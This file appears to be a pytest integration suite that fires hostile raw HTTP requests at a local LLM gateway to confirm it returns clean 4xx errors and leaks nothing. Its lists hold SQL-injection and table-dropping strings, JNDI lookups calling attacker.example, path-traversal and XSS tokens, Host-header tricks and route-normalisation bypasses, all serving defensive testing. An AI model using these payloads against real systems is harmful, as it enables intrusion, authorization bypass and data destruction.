"""Hostile input over a real socket: the example gateway under gunicorn, raw requests.

Injection strings, control bytes, invalid UTF-8 and oversized credentials; Host-header
tricks (LiteLLM CVE-2026-49468); the path-normalisation table of security_perf.md A4
against ``/key/generate`` with a key that may not call it; bad bodies to the management API.
Every answer is a 4xx JSON error (or the server's own 400/431 for a request it will not
parse), never a 500, never a traceback, a table name or a digest; the key table is unchanged
and the server's output holds no secret.
"""

from __future__ import annotations

import json
import re
import socket
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.conftest import find_leaks
from tests.helpers import MASTER_KEY, record_secret
from tests.integration.gateway import Gateway, gunicorn

pytestmark = pytest.mark.integration

DIGEST = re.compile(r"\b[0-9a-f]{64}\b")


@dataclass
class Reply:
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def json(self) -> Any:
        return json.loads(self.body)


def raw(port: int, request: bytes, timeout: float = 20.0) -> Reply:
    """Send bytes exactly as given; read the whole answer (the request says close)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        try:
            sock.sendall(request)
        except OSError:  # the server may answer and close before reading everything
            pass
        chunks = []
        while True:
            try:
                data = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break
            if not data:
                break
            chunks.append(data)
    data = b"".join(chunks)
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ", 2)[1])
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    if headers.get("transfer-encoding") == "chunked":
        decoded, rest = b"", body
        while rest:
            size_line, _, rest = rest.partition(b"\r\n")
            size = int(size_line.split(b";")[0], 16)
            if size == 0:
                break
            decoded, rest = decoded + rest[:size], rest[size + 2:]
        body = decoded
    return Reply(status, headers, body)


def request(method: str, target: str, headers: dict[str, str] | list[tuple[str, str]],
            body: bytes = b"", *, host: str | None = "127.0.0.1") -> bytes:
    lines = [f"{method} {target} HTTP/1.1"]
    if host is not None:
        lines.append(f"Host: {host}")
    pairs = headers.items() if isinstance(headers, dict) else headers
    lines += [f"{name}: {value}" for name, value in pairs]
    lines += [f"Content-Length: {len(body)}", "Connection: close"]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1", "surrogateescape") + body


def rawb(method: str, target: bytes, header_lines: list[bytes], body: bytes = b"") -> bytes:
    """A request built from bytes (for values no str can carry)."""
    head = [method.encode() + b" " + target + b" HTTP/1.1", b"Host: 127.0.0.1", *header_lines,
            b"Content-Length: " + str(len(body)).encode(), b"Connection: close"]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


# -- the server ---------------------------------------------------------------------------------


class Server:
    def __init__(self, gateway: Gateway, database: Path) -> None:
        self.gateway = gateway
        self.port = gateway.port
        self.database = database
        self.admin = {"Authorization": f"Bearer {MASTER_KEY}"}

    def new_key(self, **fields: Any) -> dict[str, Any]:
        response = requests.post(self.gateway.base_url + "/key/generate", json=fields,
                                 headers=self.admin, timeout=10)
        assert response.status_code == 200, response.text
        body = response.json()
        record_secret(body["key"])
        return body

    def keys(self) -> list[tuple[Any, ...]]:
        with sqlite3.connect(self.database) as db:
            return db.execute("SELECT * FROM llmauth_key ORDER BY id").fetchall()

    def tables(self) -> set[str]:
        with sqlite3.connect(self.database) as db:
            return {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    workdir = tmp_path_factory.mktemp("hostile")
    database = workdir / "gateway.db"
    # The failed-authentication limit is off: this module sends hundreds of bad credentials
    # from one address on purpose, and tests what each of them gets.
    gateway = gunicorn(workdir, {"LLMAUTH_MASTER_KEY": MASTER_KEY,
                                 "LLMAUTH_DATABASE_URL": f"sqlite:///{database}",
                                 "LLMAUTH_AUTH_FAILURE_LIMIT": ""},
                       workers=2, threads=4, name="hostile")
    with gateway.start():
        yield Server(gateway, database)
        output = gateway.output()
    assert "Traceback" not in output, output[-3000:]
    assert find_leaks(output) == [], "a raw secret in the gateway's output"


@pytest.fixture(scope="module")
def llm_key(server: Server) -> str:
    """A key that may call LLM routes only (so /key/generate is forbidden to it)."""
    return str(server.new_key(key_type="llm_api", models=["gpt-4o"])["key"])


def assert_clean(reply: Reply, *allowed: int) -> None:
    """An allowed status; a JSON error envelope when it is the app's answer; nothing that
    gives the internals away."""
    assert reply.status in allowed, (reply.status, reply.text[:500])
    assert reply.status < 500
    text = reply.text
    for needle in ("Traceback", "llmauth_", "peewee", "sqlite", "psycopg"):
        assert needle not in text, (needle, text[:500])
    assert not DIGEST.search(text), text[:500]
    assert MASTER_KEY not in text
    if reply.headers.get("content-type", "").startswith("application/json"):
        error = reply.json()["error"]
        assert set(error) == {"message", "type", "param", "code"}
        assert error["code"] == str(reply.status)


# -- hostile credentials --------------------------------------------------------------------------

HOSTILE_TOKENS = [
    "' OR '1'='1",
    "sk-' OR '1'='1' --",
    "x'; DROP TABLE llmauth_key;--",
    "sk-x'; DROP TABLE llmauth_key;--",
    "sk-\" OR \"\"=\"",
    "${jndi:ldap://attacker.example/a}",
    "sk-${jndi:ldap://attacker.example/a}",
    "sk-%00%27%20OR%201%3D1",
    "sk-../../../../etc/passwd",
    "sk-<script>alert(1)</script>",
    "sk-" + "A" * 8000,
]
TARGETS = [("POST", "/v1/chat/completions", b'{"model": "gpt-4o", "messages": []}'),
           ("POST", "/key/generate", b"{}"), ("GET", "/key/list", b"")]


@pytest.mark.parametrize("token", HOSTILE_TOKENS, ids=range(len(HOSTILE_TOKENS)))
def test_injection_strings_as_credentials(server: Server, token: str) -> None:
    before, tables = server.keys(), server.tables()
    for method, path, body in TARGETS:
        for headers in ({"Authorization": f"Bearer {token}"}, {"x-api-key": token},
                        {"x-litellm-api-key": token}, {"api-key": token}):
            reply = raw(server.port, request(method, path, {
                **headers, "Content-Type": "application/json"}, body))
            assert_clean(reply, 401)
            assert reply.json()["error"]["type"] == "auth_error"
            assert token not in reply.text
    assert server.keys() == before and server.tables() == tables


@pytest.mark.parametrize("value", [
    b"Bearer sk-abc\x00def0123456789abcdef",
    b"Bearer \x00",
    b"Bearer sk-\x01\x02\x03\x04-0123456789abcdef",
    b"Bearer sk-\x7f\x7f-0123456789abcdefghij",
    b"Bearer sk-\xff\xfe\xfd-0123456789abcdefghij",
    b"Bearer sk-\xc3\x28\xa0\xa1-0123456789abcdef",
    b"Bearer \xed\xa0\x80sk-0123456789abcdefghij",
    b"\xff\xfe Bearer sk-0123456789abcdefghij",
    b"Bearer sk-tab\there-0123456789abcdefgh",
], ids=range(9))
def test_control_bytes_and_invalid_utf8_in_credentials(server: Server, value: bytes) -> None:
    before = server.keys()
    for name in (b"Authorization", b"x-api-key"):
        for method, path, body in TARGETS:
            reply = raw(server.port, rawb(method, path.encode(), [
                name + b": " + value, b"Content-Type: application/json"], body))
            assert_clean(reply, 400, 401)  # gunicorn itself refuses some bytes (400)
    assert server.keys() == before


def test_a_one_mebibyte_bearer(server: Server) -> None:
    before = server.keys()
    huge = "sk-" + "B" * (1 << 20)
    for method, path, body in TARGETS:
        reply = raw(server.port, request(method, path, {"Authorization": f"Bearer {huge}"},
                                         body))
        assert_clean(reply, 400, 401, 431)  # gunicorn caps header fields at 8190 bytes
    # Just over the extension's own limit but under the server's: the extension's 401.
    over = "sk-" + "C" * 8190
    reply = raw(server.port, request("POST", "/v1/chat/completions",
                                     {"x-api-key": over[:8100]}, b"{}"))
    assert_clean(reply, 401)
    assert server.keys() == before


def test_many_credential_headers_at_once(server: Server, llm_key: str) -> None:
    headers = [("Authorization", "Bearer ' OR 1=1 --"), ("Authorization", f"Bearer {MASTER_KEY}"),
               ("x-api-key", MASTER_KEY)]
    reply = raw(server.port, request("POST", "/key/generate", headers, b"{}"))
    # Duplicate Authorization headers are joined by the server; the result is no credential.
    assert_clean(reply, 400, 401)
    assert server.keys() == server.keys()


# -- Host header tricks (LiteLLM CVE-2026-49468) ---------------------------------------------------

HOSTS = ["localhost:4000/#@attacker.example", "localhost/?", "a b", "evil.example", "",
         "localhost:4000/key/generate", "[::1]:80/#", "127.0.0.1@attacker.example"]


@pytest.mark.parametrize("host", HOSTS, ids=range(len(HOSTS)))
def test_host_header_tricks_do_not_open_key_generate(server: Server, llm_key: str,
                                                     host: str) -> None:
    before = server.keys()
    reply = raw(server.port, request("POST", "/key/generate",
                                     {"Content-Type": "application/json"}, b"{}", host=host))
    assert_clean(reply, 400, 401)
    if reply.status == 401:
        assert reply.json()["error"]["message"] == "Authentication Error, No api key passed in."
    reply = raw(server.port, request("POST", "/key/generate", {
        "Content-Type": "application/json", "Authorization": f"Bearer {llm_key}"}, b"{}",
        host=host))
    assert_clean(reply, 400, 403)
    assert server.keys() == before


def test_missing_host_header(server: Server) -> None:
    before = server.keys()
    reply = raw(server.port, b"POST /key/generate HTTP/1.0\r\nContent-Length: 2\r\n"
                             b"Content-Type: application/json\r\n\r\n{}")
    assert_clean(reply, 400, 401)
    assert server.keys() == before


# -- path tricks (security_perf.md A4) -------------------------------------------------------------

PATH_TRICKS = [
    ("//key/generate", {403}),              # routed to /key/generate: still forbidden
    ("/key%2Fgenerate", {403}),
    ("/key%2fgenerate", {403}),
    ("/%6Bey/generate", {403}),
    ("/%6bey/%67enerate", {403}),
    ("/key/generate?x=/chat/completions", {403}),
    ("/key/generate?key=x", {403}),
    ("/key/generate#frag", {403}),
    ("http://evil.example/key/generate", {403}),
    ("/key/generate/", {404}),
    ("/KEY/generate", {404}),
    ("/Key/Generate", {404}),
    ("/key//generate", {308}),
    ("/key/./generate", {404}),
    ("/key/x/../generate", {404}),
    ("/key/%2e%2e/key/generate", {404}),
    ("/v1/chat/completions/../../key/generate", {404}),
    ("/key/generate;x=1", {404}),
    ("/key/generate%3Bx=1", {404}),
    ("/key\\generate", {404}),
    ("/key%5Cgenerate", {404}),
    ("/key/generate\\", {404}),
    ("/key/generate%20", {404}),
    ("/key/generate%00", {400, 404}),
    ("/key/generate%3Fx", {404}),
    ("/key/gener%C3%A5te", {404}),
    ("/key/generate%2F", {404}),
    ("/./key/generate", {404}),
    ("/v1/../key/generate", {404}),
]


@pytest.mark.parametrize("target,expected", PATH_TRICKS, ids=[t for t, _ in PATH_TRICKS])
def test_path_tricks_never_grant_key_generate(server: Server, llm_key: str, target: str,
                                              expected: set[int]) -> None:
    before = server.keys()
    reply = raw(server.port, request("POST", target, {
        "Authorization": f"Bearer {llm_key}", "Content-Type": "application/json"}, b"{}"))
    assert_clean(reply, *expected)
    if reply.status == 403:
        assert "Route=/key/generate" in reply.json()["error"]["message"] or \
            "Tried to call route: /key/generate" in reply.json()["error"]["message"]
    assert server.keys() == before


def test_the_routed_tricks_do_reach_key_generate(server: Server) -> None:
    """The same targets with the master key create keys: the tricks above were routed to
    the real endpoint and refused by the policy, not missed by the router."""
    for target in ("//key/generate", "/key%2Fgenerate", "/%6Bey/generate",
                   "http://evil.example/key/generate"):
        before = len(server.keys())
        reply = raw(server.port, request("POST", target, {
            "Authorization": f"Bearer {MASTER_KEY}", "Content-Type": "application/json"},
            b"{}"))
        assert reply.status == 200, (target, reply.text[:300])
        record_secret(reply.json()["key"])
        assert len(server.keys()) == before + 1


@pytest.mark.parametrize("method,expected", [("GET", {405}), ("PUT", {405}),
                                             ("DELETE", {405}), ("TRACE", {405}),
                                             ("OPTIONS", {200}), ("HEAD", {405})])
def test_other_methods_on_key_generate(server: Server, method: str, expected: set[int]) -> None:
    before = server.keys()
    reply = raw(server.port, request(method, "/key/generate", {}))
    assert reply.status in expected and reply.status < 500, (method, reply.status)
    assert "Traceback" not in reply.text
    assert server.keys() == before


# -- bad bodies to the management API --------------------------------------------------------------

BAD_BODIES = [
    ("application/json", b'{"models": ["gpt-4o"]', 400, "Invalid JSON in request body."),
    ("application/json", b"[1, 2, 3]", 400, "Request body must be a JSON object."),
    ("application/json", b'"a string"', 400, "Request body must be a JSON object."),
    ("application/json", b"null", 400, "Invalid JSON in request body."),
    ("application/json", b"[" * 100_000 + b"]" * 100_000, 400, "Invalid JSON in request body."),
    ("application/json", b'{"a": ' * 50_000 + b"1" + b"}" * 50_000, 400,
     "Invalid JSON in request body."),
    ("application/json", b'{"key_alias": "\xff\xfe"}', 400, "Invalid JSON in request body."),
    ("application/json", b'{"metadata": {"x": NaN}}', 400, "must be JSON-serialisable"),
    ("application/json", b'{"max_budget": 1e999}', 400, "must be a finite number"),
    ("application/json", b'{"duration": "99999999d"}', 400, "duration is too long"),
    ("application/json", b'{"max_budget": -1}', 400, "must not be negative"),
    ("application/json", b'{"is_admin": true}', 400, "Unknown field 'is_admin'"),
    ("application/json", b'{"models": "gpt-4o"}', 400, "must be a list of strings"),
    ("text/plain", b'{"models": ["gpt-4o"]}', 400, "Content-Type must be application/json."),
    ("application/x-www-form-urlencoded", b"models=gpt-4o", 400,
     "Content-Type must be application/json."),
    ("application/xml", b"<key/>", 400, "Content-Type must be application/json."),
    ("multipart/form-data; boundary=x", b"--x--", 400, "Content-Type must be application/json."),
    ("application/json", b'{"metadata": {"x": "' + b"y" * (2 << 20) + b'"}}', 413, None),
]


@pytest.mark.parametrize("content_type,body,status,message", BAD_BODIES,
                         ids=range(len(BAD_BODIES)))
def test_bad_bodies_get_json_errors(server: Server, content_type: str, body: bytes,
                                    status: int, message: str | None) -> None:
    before = server.keys()
    for path in ("/key/generate", "/key/update", "/user/new", "/team/new"):
        reply = raw(server.port, request("POST", path, {
            "Authorization": f"Bearer {MASTER_KEY}", "Content-Type": content_type}, body))
        assert_clean(reply, status)
        error = reply.json()["error"]
        assert error["type"] == "invalid_request_error"
        if message is not None and path == "/key/generate":
            assert message in error["message"], error
    assert server.keys() == before


def test_a_chunked_body_over_the_limit_is_refused(server: Server) -> None:
    chunk = b"y" * 65536
    body = b"".join(b"%x\r\n" % len(chunk) + chunk + b"\r\n" for _ in range(24)) + b"0\r\n\r\n"
    head = ("POST /key/generate HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Authorization: Bearer {MASTER_KEY}\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n").encode()
    reply = raw(server.port, head + body)
    assert_clean(reply, 413)


def test_bad_bodies_on_an_llm_route(server: Server, llm_key: str) -> None:
    auth = {"Authorization": f"Bearer {llm_key}", "Content-Type": "application/json"}
    for body, status in ((b"[" * 100_000, 400), (b"[1]", 400), (b"{not json", 400),
                         (b'{"model": 7}', 400), (b'{"model": "claude-3-5-sonnet"}', 403)):
        reply = raw(server.port, request("POST", "/v1/chat/completions", auth, body))
        assert_clean(reply, status)
    # A JSON body sent as text/plain is still read for the model check.
    reply = raw(server.port, request("POST", "/v1/chat/completions", {
        "Authorization": f"Bearer {llm_key}", "Content-Type": "text/plain"},
        b'{"model": "claude-3-5-sonnet", "messages": []}'))
    assert_clean(reply, 400, 403)


MALFORMED_CHUNKS = [b"zz\r\n{}\r\n0\r\n\r\n", b"2\r\n{}XX0\r\n\r\n", b"2;a\rb\r\n{}\r\n0\r\n\r\n",
                    b"-2\r\n{}\r\n0\r\n\r\n"]


@pytest.mark.parametrize("chunks", MALFORMED_CHUNKS, ids=range(len(MALFORMED_CHUNKS)))
@pytest.mark.parametrize("path,credential", [
    ("/key/generate", MASTER_KEY), ("/user/new", MASTER_KEY), ("/v1/chat/completions", None),
    ("/v1/chat/completions", MASTER_KEY)])
def test_a_body_the_server_cannot_read_is_a_400(server: Server, llm_key: str, chunks: bytes,
                                                path: str, credential: str | None) -> None:
    """A chunked body gunicorn cannot decode raises from the body stream itself: it was a
    500 (and a traceback) on the management API and a 403 ``policy_error`` on an LLM
    route. It is the 400 of a body that cannot be read."""
    before = server.keys()
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Authorization: Bearer {credential or llm_key}\r\n"
            "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
            "Connection: close\r\n\r\n").encode()
    reply = raw(server.port, head + chunks)
    assert_clean(reply, 400)
    error = reply.json()["error"]
    assert (error["type"], error["message"]) == ("invalid_request_error",
                                                 "The request body could not be read.")
    assert server.keys() == before
